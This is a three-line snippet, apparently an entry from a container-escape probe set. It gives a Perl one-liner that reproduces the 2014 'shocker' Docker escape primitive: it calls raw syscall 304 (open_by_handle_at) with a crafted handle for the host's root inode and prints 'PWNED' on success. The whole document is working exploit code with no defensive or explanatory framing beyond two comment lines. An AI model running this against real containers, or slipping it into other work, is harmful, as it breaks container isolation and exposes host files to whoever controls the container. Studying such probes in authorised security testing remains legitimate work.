# tries: open a file of the host by its handle
# from: shocker, the Docker escape of 2014
perl -e 'my $h = pack("Ii", 8, 1) . pack("Q", 2); syscall(304, 3, $h, 0) >= 0 && print "PWNED\n"'
